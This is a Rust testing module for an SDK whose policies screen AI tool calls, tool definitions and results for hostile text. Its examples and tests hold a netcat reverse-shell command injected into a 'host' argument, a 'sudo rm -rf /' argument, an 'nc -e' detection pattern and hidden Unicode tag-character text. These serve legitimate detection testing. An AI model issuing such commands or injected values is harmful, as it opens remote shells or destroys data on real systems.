//! A native stand-in for the host, for unit tests of a policy's logic.
//!
//! The host normalises every text field of an event and runs the policy's
//! [`Pattern`](crate::Pattern)s over it before it calls the policy. This module does the
//! same natively, so that a test can check a policy against real text
//! instead of hand-built findings:
//!
//! ```
//! use portcullis_sdk::serde_json::json;
//! use portcullis_sdk::{
//!     Context, EventKind, Finding, Metadata, Outcome, Pattern, Policy, ToolCall, Verdict, testing,
//! };
//!
//! struct NoNetcat;
//!
//! impl Policy for NoNetcat {
//!     fn metadata() -> Metadata {
//!         Metadata::new("no-netcat", "1")
//!             .on(EventKind::ToolCall)
//!             .pattern(Pattern::regex("netcat", r"\bnc\s+-e\b"))
//!     }
//!
//!     fn check_call(_: &Context, _: &ToolCall, findings: &[Finding]) -> Outcome {
//!         match findings.first() {
//!             Some(found) => Outcome::with(Verdict::Deny, "netcat", format!("{}: {}", found.field, found.matched)),
//!             None => Outcome::allow(),
//!         }
//!     }
//! }
//!
//! let call = testing::call("ping", json!({ "host": "localhost; NC -e /bin/sh 10.0.0.1 4444" }));
//! let findings = testing::call_findings(&NoNetcat::metadata(), &call);
//! let outcome = NoNetcat::check_call(&testing::context(), &call, &findings);
//! assert_eq!(outcome.verdict, Verdict::Deny);
//! assert_eq!(outcome.reasons[0].message, "/arguments/host: nc -e");
//! ```
//!
//! It follows the host's contract: text is normalised (Unicode tag
//! characters decoded to ASCII, invisible and bidirectional controls removed,
//! NFKC, lower case); literals match case-insensitively; regular expressions
//! are compiled by `regex-automata` with case-insensitive matching; built-in
//! detectors look at the original text. Offsets are byte offsets in the
//! normalised text. The tool digest is a stable hash of the definition, not
//! the host's SHA-256: equal definitions get equal digests.
//!
//! Available with the `testing` feature, which policies enable for their
//! dev-dependency on this crate.

use std::cell::RefCell;
use std::collections::HashMap;

use regex_automata::meta::Regex;
use regex_automata::util::syntax;
use serde_json::Value;
use unicode_normalization::UnicodeNormalization;

use crate::{
    BuiltinDetector, Context, Finding, Matcher, Metadata, Outcome, Policy, Tool, ToolCall,
    ToolResult,
};

/// A context for one test session.
pub fn context() -> Context {
    Context {
        session: "test-session".into(),
        server: "test-server".into(),
    }
}

/// A tool definition, with a digest derived from its four fields.
pub fn tool(name: &str, description: &str, input_schema: Value, annotations: Value) -> Tool {
    let input_schema = input_schema.to_string();
    let annotations = annotations.to_string();
    let digest = digest(&[name, description, &input_schema, &annotations]);
    Tool {
        name: name.into(),
        description: description.into(),
        input_schema,
        annotations,
        digest,
    }
}

/// A call to a tool the host has not seen advertised.
pub fn call(name: &str, arguments: Value) -> ToolCall {
    ToolCall {
        name: name.into(),
        arguments: arguments.to_string(),
        tool: None,
    }
}

/// The result of `call`.
pub fn result(call: ToolCall, response: Value) -> ToolResult {
    ToolResult {
        call,
        response: response.to_string(),
    }
}

/// The findings the host would give a policy with `metadata` for `tool`.
///
/// # Panics
/// When one of the patterns is not a valid regular expression.
pub fn tool_findings(metadata: &Metadata, tool: &Tool) -> Vec<Finding> {
    let mut fields = vec![
        ("name".to_owned(), tool.name.clone()),
        ("description".to_owned(), tool.description.clone()),
    ];
    string_leaves(&tool.input_schema_json(), "/inputSchema", &mut fields);
    string_leaves(&tool.annotations_json(), "/annotations", &mut fields);
    scan(metadata, &fields)
}

/// The findings the host would give a policy with `metadata` for `call`.
///
/// # Panics
/// When one of the patterns is not a valid regular expression.
pub fn call_findings(metadata: &Metadata, call: &ToolCall) -> Vec<Finding> {
    let mut fields = Vec::new();
    string_leaves(&call.arguments_json(), "/arguments", &mut fields);
    scan(metadata, &fields)
}

/// The findings the host would give a policy with `metadata` for `result`.
///
/// # Panics
/// When one of the patterns is not a valid regular expression.
pub fn result_findings(metadata: &Metadata, result: &ToolResult) -> Vec<Finding> {
    let mut fields = Vec::new();
    string_leaves(&result.response_json(), "/response", &mut fields);
    scan(metadata, &fields)
}

/// Runs `P`'s call check on a call to `name`, with the findings the host's
/// prefilter would give it for `P`'s patterns.
pub fn check_call<P: Policy>(name: &str, arguments: Value) -> Outcome {
    let call = call(name, arguments);
    let findings = call_findings(&P::metadata(), &call);
    P::check_call(&context(), &call, &findings)
}

/// The rule of each reason of an outcome, in order.
pub fn rules(outcome: &Outcome) -> Vec<&str> {
    outcome
        .reasons
        .iter()
        .map(|reason| reason.rule.as_str())
        .collect()
}

/// The host's normal form of a text field.
pub fn normalize(text: &str) -> String {
    let visible: String = text
        .chars()
        .filter_map(|c| match c {
            c if is_tag(c) => char::from_u32(u32::from(c) - 0xE0000)
                .filter(|decoded| decoded.is_ascii_graphic() || *decoded == ' '),
            c if is_invisible(c) || is_bidi(c) => None,
            c => Some(c),
        })
        .collect();
    visible.nfkc().collect::<String>().to_lowercase()
}

fn is_tag(c: char) -> bool {
    ('\u{E0000}'..='\u{E007F}').contains(&c)
}

fn is_bidi(c: char) -> bool {
    matches!(c, '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{00AD}' | '\u{034F}' | '\u{180E}' | '\u{200B}'..='\u{200D}' | '\u{2060}'..='\u{2064}' | '\u{FEFF}'
    )
}

fn string_leaves(value: &Value, path: &str, out: &mut Vec<(String, String)>) {
    match value {
        Value::String(text) => out.push((path.to_owned(), text.clone())),
        Value::Array(items) => {
            for (index, item) in items.iter().enumerate() {
                string_leaves(item, &format!("{path}/{index}"), out);
            }
        }
        Value::Object(members) => {
            for (key, member) in members {
                let key = key.replace('~', "~0").replace('/', "~1");
                string_leaves(member, &format!("{path}/{key}"), out);
            }
        }
        _ => {}
    }
}

fn scan(metadata: &Metadata, fields: &[(String, String)]) -> Vec<Finding> {
    let mut findings = Vec::new();
    for pattern in &metadata.patterns {
        let regex = match &pattern.matcher {
            Matcher::Regex(source) => Some(compiled(&pattern.id, source)),
            _ => None,
        };
        for (field, text) in fields {
            let normalized = normalize(text);
            let spans: Vec<(usize, usize, String)> = match &pattern.matcher {
                Matcher::Literal(literal) => {
                    let needle = normalize(literal);
                    if needle.is_empty() {
                        Vec::new()
                    } else {
                        normalized
                            .match_indices(&needle)
                            .map(|(start, matched)| {
                                (start, start + matched.len(), matched.to_owned())
                            })
                            .collect()
                    }
                }
                Matcher::Regex(_) => regex
                    .as_ref()
                    .map(|regex| {
                        regex
                            .find_iter(&normalized)
                            .filter(|found| !found.is_empty())
                            .map(|found| {
                                (
                                    found.start(),
                                    found.end(),
                                    normalized[found.range()].to_owned(),
                                )
                            })
                            .collect()
                    })
                    .unwrap_or_default(),
                Matcher::Builtin(detector) => builtin_runs(*detector, text),
            };
            findings.extend(spans.into_iter().map(|(start, end, matched)| Finding {
                pattern: pattern.id.clone(),
                field: field.clone(),
                start: start as u32,
                end: end as u32,
                matched,
            }));
        }
    }
    findings
}

/// `source` compiled as the host compiles it, once per thread.
fn compiled(id: &str, source: &str) -> Regex {
    thread_local! {
        static CACHE: RefCell<HashMap<String, Regex>> = RefCell::new(HashMap::new());
    }
    CACHE.with(|cache| {
        cache
            .borrow_mut()
            .entry(source.to_owned())
            .or_insert_with(|| {
                Regex::builder()
                    .syntax(syntax::Config::new().case_insensitive(true))
                    .build(source)
                    .unwrap_or_else(|error| panic!("pattern {id}: {error}"))
            })
            .clone()
    })
}

/// Runs of characters a built-in detector reports, in the original text.
fn builtin_runs(detector: BuiltinDetector, text: &str) -> Vec<(usize, usize, String)> {
    let detects = |c: char| match detector {
        BuiltinDetector::TagCharacters => is_tag(c),
        BuiltinDetector::InvisibleCharacters => is_invisible(c),
        BuiltinDetector::BidiControls => is_bidi(c),
    };
    let mut runs = Vec::new();
    let mut run: Option<(usize, String)> = None;
    for (offset, c) in text.char_indices() {
        if detects(c) {
            let shown = if is_tag(c) {
                char::from_u32(u32::from(c) - 0xE0000).unwrap_or('?')
            } else {
                c
            };
            run.get_or_insert_with(|| (offset, String::new()))
                .1
                .push(shown);
        } else if let Some((start, matched)) = run.take() {
            runs.push((start, offset, matched));
        }
    }
    if let Some((start, matched)) = run {
        runs.push((start, text.len(), matched));
    }
    runs
}

/// A stable FNV-1a hash of the parts, as hex.
fn digest(parts: &[&str]) -> String {
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
    for part in parts {
        for byte in part.bytes().chain([0]) {
            hash ^= u64::from(byte);
            hash = hash.wrapping_mul(0x0100_0000_01b3);
        }
    }
    format!("{hash:016x}")
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::Pattern;

    #[test]
    fn normalize_decodes_tags_and_drops_invisible_characters() {
        assert_eq!(normalize("Ｉg\u{200B}nore\u{E0041}\u{E0042}"), "ignoreab");
    }

    #[test]
    fn findings_name_the_field_and_the_normalised_match() {
        let metadata = Metadata::new("t", "0")
            .pattern(Pattern::literal("lit", "RM -RF"))
            .pattern(Pattern::regex("re", r"nc\s+-e"))
            .pattern(Pattern::builtin("tags", BuiltinDetector::TagCharacters));
        let call = call(
            "run",
            json!({ "command": "sudo rm -rf /", "options": ["x", "NC -e sh\u{E0068}\u{E0069}"] }),
        );
        let findings = call_findings(&metadata, &call);
        let summary: Vec<(&str, &str, &str)> = findings
            .iter()
            .map(|f| (f.pattern.as_str(), f.field.as_str(), f.matched.as_str()))
            .collect();
        assert_eq!(
            summary,
            [
                ("lit", "/arguments/command", "rm -rf"),
                ("re", "/arguments/options/1", "nc -e"),
                ("tags", "/arguments/options/1", "hi"),
            ]
        );
        assert_eq!((findings[0].start, findings[0].end), (5, 11));
    }

    #[test]
    fn tool_fields_cover_schema_and_annotations() {
        let metadata = Metadata::new("t", "0").pattern(Pattern::literal("secret", "secret"));
        let tool = tool(
            "secret_tool",
            "A secret",
            json!({ "properties": { "x": { "description": "secret" } } }),
            json!({ "title": "Secret" }),
        );
        let fields: Vec<String> = tool_findings(&metadata, &tool)
            .into_iter()
            .map(|f| f.field)
            .collect();
        assert_eq!(
            fields,
            [
                "name",
                "description",
                "/inputSchema/properties/x/description",
                "/annotations/title"
            ]
        );
    }

    #[test]
    fn equal_definitions_have_equal_digests() {
        let a = tool("t", "d", json!({}), json!({}));
        let b = tool("t", "d", json!({}), json!({}));
        let c = tool("t", "changed", json!({}), json!({}));
        assert_eq!(a.digest, b.digest);
        assert_ne!(a.digest, c.digest);
    }
}
